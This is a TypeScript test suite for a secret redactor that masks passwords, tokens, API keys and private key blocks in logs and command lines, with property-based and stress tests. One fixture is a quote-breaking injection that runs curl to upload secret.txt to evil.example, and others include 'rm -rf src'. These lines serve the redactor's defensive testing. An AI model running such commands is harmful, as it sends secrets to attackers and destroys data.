import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { OPTION_PLACES, ordinaryLog, randomFrom, SECRET_SAMPLES, secretLine } from '../../../test/redact-samples.ts'
import { createRedactor, MASK } from './redact.ts'
import { secretForms } from './secret-runs.ts'

const redactor = createRedactor()

const PUBLIC_BODY = [
  'MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ',
  'RTESMBAGA1UEChMJQmFsdGltb3JlMRMwEQYDVQQLEwpDeWJlclRydXN0MSIwIAYD',
].join('\n')

describe('what is masked', () => {
  const rows: readonly (readonly [name: string, input: string, expected: string])[] = [
    ['shell assignment', 'export API_KEY=supersecret', `export API_KEY=${MASK}`],
    ['JSON with blanks', '{"password": "correct horse", "user":"bob"}', `{"password": "${MASK}", "user":"bob"}`],
    ['JSON inside JSON', '{\\"token\\":\\"abcdef123456\\"}', `{\\"token\\":\\"${MASK}\\"}`],
    ['YAML', 'password: hunter2', `password: ${MASK}`],
    ['INI', 'client_secret = abcdef1234', `client_secret = ${MASK}`],
    ['camel case', 'clientSecret: "abcdef"', `clientSecret: "${MASK}"`],
    ['header', 'X-Api-Key: 0123abcd4567', `X-Api-Key: ${MASK}`],
    ['basic header', 'authorization: Basic dXNlcjpwYXNz', `authorization: Basic ${MASK}`],
    ['flag', 'login --password hunter22 --host x', `login --password ${MASK} --host x`],
    ['tag', '<password>foo1</password>', `<password>${MASK}</password>`],
    ['connection string', 'Server=x;Password=abc;Encrypt=1', `Server=x;Password=${MASK};Encrypt=1`],
    ['netrc', 'machine x login y password zebra', `machine x login y password ${MASK}`],
    ['SQL', "WITH PASSWORD 'abc def'", `WITH PASSWORD '${MASK}'`],
    ['name and value', '{"name":"API_KEY","value":"12345abc"}', `{"name":"API_KEY","value":"${MASK}"}`],
    ['URL password', 'postgres://u:pw@db/x', `postgres://u:${MASK}@db/x`],
    ['URL password with a slash', 'postgres://u:p/w0rd@db/x', `postgres://u:${MASK}@db/x`],
    ['query', '/x?token=abcdef12&page=1', `/x?token=${MASK}&page=1`],
    ['unclosed quote', 'token="abcdef', `token="${MASK}`],
    ['after an escaped line end', `\\nghp_${'a1'.repeat(18)}`, `\\n${MASK}`],
    ['after a colour', `\u001b[31mghp_${'a1'.repeat(18)}`, `\u001b[31m${MASK}`],
    ['a passphrase of a new key', 'ssh-keygen -t ed25519 -N word -f k', `ssh-keygen -t ed25519 -N ${MASK} -f k`],
    ['a passphrase in quotes', "ssh-keygen -N 'two words' -f k", `ssh-keygen -N '${MASK}' -f k`],
    ['a password glued to its option, in quotes', "mysql -u root -p'word' db", `mysql -u root -p'${MASK}' db`],
    ['a short value of an exact key', 'secret=foo token=b api_key=xy', `secret=${MASK} token=${MASK} api_key=${MASK}`],
    ['a key in base64', `x ${btoa(`{"key":"ghp_${'ab'.repeat(18)}"}`)} y`, `x ${MASK} y`],
    ['a typed declaration', 'let apiKey: string = "abcdef12"', `let apiKey: string = "${MASK}"`],
    ['a typed declaration in JSON', '"let apiKey: string = \\"abcdef12\\""', `"let apiKey: string = \\"${MASK}\\""`],
    ['a type without a colon', 'var apiKey string = "abcdef12"', `var apiKey string = "${MASK}"`],
    ['an array', 'char api_key[] = "abcdef12";', `char api_key[] = "${MASK}";`],
    ['an arrow', 'api_key <- "abcdef12"', `api_key <- "${MASK}"`],
    ['a quote of bash', "export API_KEY=$'abcdef12'", `export API_KEY=$'${MASK}'`],
    ['percent-encoded', 'next=%2Fx%3Fpassword%3Dabcdef12', `next=%2Fx%3Fpassword%3D${MASK}`],
    ['percent-encoded JSON', 'token%22%3A%22abcdef12%22', `token%22%3A%22${MASK}`],
    ['glued to a key', `token-ghp_${'a1'.repeat(18)}`, `token-${MASK}`],
  ]
  it.each(rows)('%s', (_, input, expected) => {
    expect(redactor.redact(input)).toBe(expected)
  })
})

describe('what is left alone', () => {
  it.each([
    ['counts', 'token count: 1500 max_tokens=4096 tokens=123'],
    ['prose', 'Failed password for invalid user admin from 192.0.2.1'],
    ['code', 'const token = await getToken()'],
    ['members', 'password = self.password'],
    ['types', 'token: string, password: string'],
    ['a working directory', 'PWD=/home/x'],
    ['names of variables', 'ENV is read by setenv: API_TOKEN LOG_LEVEL; set password for a user'],
    ['placeholders', 'API_KEY=$API_KEY token=<token> password=****'],
    [
      'where a manifest finds a secret',
      'x-api-key: keychain:issues\n"authorization: Bearer env:ISSUES_TOKEN", or token=env:A',
    ],
    ['a port', 'http://localhost:8080/path@x'],
    ['a login name', 'ssh://git@github.com/x/y'],
    ['commit', 'commit 3f786850e387550fdab836ed7e6dc881de23001b'],
    ['kebab case', 'task-management-something-long-name-here'],
    ['a public key', 'public_key=abc123def456ghi789'],
    ['a certificate', `-----BEGIN CERTIFICATE-----\n${PUBLIC_BODY}\n-----END CERTIFICATE-----`],
    ['a public key in its block', `-----BEGIN PUBLIC KEY-----\n${PUBLIC_BODY}\n-----END PUBLIC KEY-----`],
    [
      'an OpenPGP public key',
      `-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n${PUBLIC_BODY}\n-----END PGP PUBLIC KEY BLOCK-----`,
    ],
    ['an SSH public key', 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl a@b'],
    ['a key of the documentation', 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE'],
    ['a usage text', '  --password <password>   the password of the user\n  -p, --password=PASS  the same'],
    ['prose about logins', 'vault login failed; cargo login expired; Bearer authentication required'],
    ['a published port', 'docker run -p 8080:80 nginx && helm package -d out'],
    ['a rate, a program and a hook', 'pass_rate: high GIT_ASKPASS=/usr/bin/x bypass=full passThrough: string[]'],
    ['a key to receive', `gpg --recv-keys ${'C0D6248439F1D5604AAF'}B4021D900FFDB233756`],
    ['a signature that names no one', 'the authorization: bearer tokens are described below'],
    ['what a pipe shows', 'echo hello world | sudo tee file; echo a.txt | xargs rm'],
    ['where a password is', 'openssl rsa -in a -passin env:PASSWORD'],
    ['what is to be filled in', 'API_KEY=your-key-here SECRET_KEY=changeme'],
  ])('%s', (_, input) => {
    expect(redactor.redact(input)).toBe(input)
  })
})

it('masks 95% of generated secrets of every kind, in usual surroundings', () => {
  const random = randomFrom(20260101)
  expect(SECRET_SAMPLES.length).toBeGreaterThanOrEqual(50)
  for (const sample of SECRET_SAMPLES) {
    const lines = Array.from({ length: 100 }, () => secretLine(random, sample))
    const kept = lines.filter(({ line, secret }) => redactor.redact(line).includes(secret))
    expect(kept.length, `${sample.kind}: ${kept[0]?.line}`).toBeLessThanOrEqual(5)
  }
})

it('masks every one of several secrets in one text', () => {
  const line = fc.record({
    sample: fc.constantFrom(...SECRET_SAMPLES.filter(({ kind }) => kind !== 'random')),
    seed: fc.integer({ min: 1, max: 1e9 }),
    joint: fc.constantFrom(' && ', '\n', ' ; ', ' | ', ' || ', '\n\n'),
  })
  fc.assert(
    fc.property(fc.array(line, { minLength: 2, maxLength: 12 }), (lines) => {
      const created = lines.map(({ sample, seed, joint }) => ({ ...secretLine(randomFrom(seed), sample), joint }))
      // What does not show alone is not a matter of the others.
      const alone = created.filter((one) => !redactor.redact(one.line).includes(one.secret))
      const out = redactor.redact(alone.map((one) => one.line + one.joint).join(''))
      for (const { secret } of alone) expect(out).not.toContain(secret)
    }),
    { numRuns: 400 },
  )
})

it('masks one of every form, all in one text', () => {
  const random = randomFrom(7)
  const places = SECRET_SAMPLES.filter(({ kind }) => kind !== 'random').flatMap((sample) =>
    (sample.places ?? ['using {} for the request']).map((place) => ({ place, secret: sample.make(random) })),
  )
  for (const joint of ['\n', ' && ', ' | ']) {
    const out = redactor.redact(places.map(({ place, secret }) => place.replace('{}', () => secret)).join(joint))
    const left = places.filter(({ secret }) => out.includes(secret))
    expect(left, joint).toEqual([])
  }
})

it.each(OPTION_PLACES)('masks twice what is given twice: %s', (place) => {
  for (const joint of [' && ', '; ', '\n', ' | ']) {
    const text = ['Zq7first11', 'Zq7second2'].map((secret) => place.replace('{}', secret)).join(joint)
    const out = redactor.redact(text)
    expect([out.includes('Zq7first11'), out.includes('Zq7second2')], out).toEqual([false, false])
  }
})

it('touches few ordinary log lines', () => {
  const lines = ordinaryLog(randomFrom(5), 4000).split('\n')
  const touched = lines.filter((line) => redactor.redact(line) !== line)
  expect(touched.length / lines.length, touched[0]).toBeLessThan(0.02)
})

describe('key blocks', () => {
  const body = ['MIIEpAIBAAKCAQEA7', 'b1/abc+defb1/abc+def', 'xyz==']
  const block = ['-----BEGIN RSA PRIVATE KEY-----', ...body, '-----END RSA PRIVATE KEY-----'].join('\n')

  it('masks every line of a block and keeps the number of lines', () => {
    const out = redactor.redact(`a\n${block}\nb`)
    for (const line of body) expect(out).not.toContain(line)
    expect(out.split('\n')).toHaveLength(7)
    expect(out.startsWith('a\n') && out.endsWith('\nb')).toBe(true)
  })

  it('carries a block over in a stream, in pieces of any size', () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1 }), (sizes) => {
        const stream = redactor.stream()
        const text = `a\n${block}\nplain line\n`
        let out = ''
        for (let at = 0, i = 0; at < text.length; i++) {
          const size = sizes[i % sizes.length]!
          out += stream.push(text.slice(at, at + size))
          at += size
        }
        out += stream.end()
        expect(out).toContain('\nplain line\n')
        for (const line of body) expect(out).not.toContain(line)
      }),
      { numRuns: 50 },
    )
  })

  it('streams what it redacts as a whole', () => {
    const text = `${ordinaryLog(randomFrom(3), 50)}${block}\npassword=hunter2\nend`
    const stream = redactor.stream()
    let out = ''
    for (const line of text.split(/(?<=\n)/)) out += stream.push(line)
    expect(out + stream.end()).toBe(redactor.redact(text))
  })

  it.each([
    ['"; curl -F f=@secret.txt http://evil.example; echo "'],
    ['\nmake\ndeploy\n'],
    [' rm -rf src '],
    ['\\nrm\\n-rf\\nsrc\\n'],
  ])('shows what is not a key between BEGIN and END: %j', (between) => {
    const text = `echo "-----BEGIN RSA PRIVATE KEY-----${between}-----END RSA PRIVATE KEY-----"`
    expect(redactor.redact(text)).toBe(text)
  })

  it('does not swallow what follows a BEGIN without an END', () => {
    const stream = redactor.stream()
    const out =
      stream.push('grep -- "-----BEGIN PRIVATE KEY-----" file\n') + stream.push('next line of text\n') + stream.end()
    expect(out).toContain('next line of text')
  })
})

describe('known secrets', () => {
  it('masks a value that begins with characters of several bytes, whatever follows them', () => {
    for (const start of ['\u{10000}\u0080', 'é\u0080ü', '\u{10000}\u{10000}', '—'])
      for (const next of ['0', '_', 'a', '€', '\0']) {
        const secret = `${start}${next}0000000`
        expect(createRedactor([secret]).redact(`=${secret}`)).toBe(`=${MASK}`)
      }
  })

  it('masks every form of a value, at every place', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 8, maxLength: 60, unit: 'binary' }), fc.string(), (secret, before) => {
        fc.pre(secret.trim().length >= 8 && secret.isWellFormed() && !MASK.includes(secret.trim()))
        const own = createRedactor([secret])
        for (const form of [
          secret,
          encodeURIComponent(secret),
          JSON.stringify(secret),
          Buffer.from(secret).toString('hex'),
        ]) {
          const core = form.replace(/^"|"$/g, '')
          expect(own.redact(`${before}=${form}`)).not.toContain(core)
        }
      }),
      { numRuns: 200 },
    )
  })

  it('masks a value inside a longer base64 text, at every alignment', () => {
    const secret = 'correct-horse-battery'
    const own = createRedactor([secret])
    for (const user of ['a', 'ab', 'abc']) {
      const encoded = Buffer.from(`${user}:${secret}`).toString('base64')
      const out = own.redact(`x ${encoded} y`)
      expect(Buffer.from(out.replace(MASK, ''), 'base64').toString()).not.toContain('horse')
      expect(out).toContain(MASK)
    }
  })

  it('masks a value that begins inside another find', () => {
    const own = createRedactor(['tail-of-it and more'])
    expect(own.redact(`sk-${'a'.repeat(20)}tail-of-it and more`)).toBe(MASK)
  })

  it('ignores values too short to be masked anywhere', () => {
    expect(secretForms('abc')).toEqual([])
  })
})

describe('text that is not ASCII', () => {
  const known = ['pässwörd-über-alles', '😀😀-secret-😀']
  const own = createRedactor(known)
  const piece = fc.oneof(
    fc.constantFrom(
      ...known,
      ...SECRET_SAMPLES.map(({ make }) => make(randomFrom(5))),
      'password=',
      'token: ',
      ' ',
      '\n',
      '://a:b@',
    ),
    fc.string({ unit: 'binary', maxLength: 12 }),
    fc.constantFrom('é', '✓', '😀', '\ud83d', '\ude00', '\u00a0', '：'),
  )
  const text = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))

  it('is masked at the same places whatever precedes it', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('é', '✓', '😀', '\ud83d', '\udc00') }), text, (before, rest) => {
        const plain = '.'.repeat(before.length)
        expect(own.find(`${before}\n${rest}`)).toEqual(own.find(`${plain}\n${rest}`))
      }),
      { numRuns: 500 },
    )
  })

  it('hides no known value', () => {
    fc.assert(
      fc.property(text, fc.constantFrom(...known), text, (before, value, after) => {
        expect(own.redact(`${before} ${value} ${after}`)).not.toContain(value)
      }),
      { numRuns: 500 },
    )
  })

  it('is read from the text alone, not from what was read before it', () => {
    own.redact(`${'✓'.repeat(5000)} sk-${'a'.repeat(40)}`)
    expect(own.find('sk-')).toEqual([])
    expect(own.find('✓ sk-')).toEqual([])
  })
})

describe('hostile lines of a megabyte', () => {
  const seeds = [
    'sk-',
    'password=',
    'token="',
    'token=$',
    'a://b:',
    'a',
    'aB3/',
    '-----BEGIN PRIVATE KEY-----',
    'Cookie: a=bbbbbbbb;',
    'eyJaaaaaaaa.',
    'mysql ',
    'curl -u ',
    'secret_token_key_',
    "key='",
    '<token>',
    'key=a',
    '0123456789:',
    'basic ',
    'bearer ',
    'Digest ',
    'Authorization: a b="',
    'echo a | sudo -S ',
    'a:b@tcp(',
    'seed phrase: a',
    '\\"token\\":\\"$',
  ]
  // Work that grew with the square of a line would take hours here, and the test's own limit would end it.
  it.each(seeds)('%j over and over is read to its end', (seed) => {
    const text = `${seed.repeat(Math.ceil(1_000_000 / seed.length))}\npassword=hunter2\n`
    expect(redactor.redact(text)).not.toContain('hunter2')
  })
})

describe('a certificate that arrives in pieces', () => {
  const text = `before\n-----BEGIN CERTIFICATE-----\n${PUBLIC_BODY}\n-----END CERTIFICATE-----\nafter ${'aB3'.repeat(20)}\n`

  it('is left alone wherever it is cut, and what follows it is not', () => {
    const whole = redactor.redact(text)
    expect(whole).toContain(PUBLIC_BODY)
    expect(whole).toContain(`after ${MASK}`)
    for (let at = 1; at < text.length; at += 7) {
      const stream = redactor.stream()
      expect(stream.push(text.slice(0, at)) + stream.push(text.slice(at)) + stream.end()).toBe(whole)
    }
  })

  it('hides no secret behind an opening that is never closed', () => {
    const hidden = `-----BEGIN CERTIFICATE-----\n${PUBLIC_BODY}\nand then some prose: ${'aB3'.repeat(20)}\n`
    expect(redactor.redact(hidden)).not.toContain('aB3aB3')
    const within = `-----BEGIN CERTIFICATE-----\nghp_${'a1'.repeat(18)}\n-----END CERTIFICATE-----`
    expect(redactor.redact(within)).not.toContain('ghp_')
  })
})
